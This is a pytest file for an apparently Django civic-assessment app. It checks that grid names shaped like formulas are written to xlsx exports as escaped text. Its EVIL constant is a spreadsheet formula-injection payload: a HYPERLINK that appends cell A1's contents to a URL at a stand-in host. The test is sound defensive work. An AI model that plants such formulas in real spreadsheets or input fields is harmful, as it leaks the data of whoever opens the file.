"""Exports write every text cell through safe_cell: a grid named like a formula is exported as
text (a leading apostrophe), never as a formula a spreadsheet would run."""

from datetime import timedelta
from io import BytesIO

from django.utils import timezone
from openpyxl import load_workbook

from civicgrid.assessment.measures import local_tz
from civicgrid.assessment.tests.history import new_case
from civicgrid.geo.models import Grid
from civicgrid.testing.cases import IN_A1_WEST

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'


def test_formula_like_names_are_exported_as_text(client, city, users):
    grid = city.grids["a1_west"]
    Grid.objects.filter(pk=grid.pk).update(name=EVIL)
    now = timezone.now().astimezone(local_tz())
    for n in range(3):
        new_case(
            grid.code,
            grid=grid,
            when=now - timedelta(days=n, hours=1),
            lat=IN_A1_WEST[0],
            lng=IN_A1_WEST[1],
        )
    client.force_login(users.command)
    for page, column in (("recurring", 1), ("hotspots", 7), ("falling", 1)):
        response = client.get(f"/assessment/analysis/{page}/?export=xlsx")
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        sheet = load_workbook(BytesIO(response.content)).active
        values = [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert values, page
        assert all(isinstance(v, str) and v.startswith("'=") for v in values if EVIL in str(v)), (
            page,
            values,
        )
        assert any(EVIL in str(v) for v in values), (page, values)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (page, cell.value)
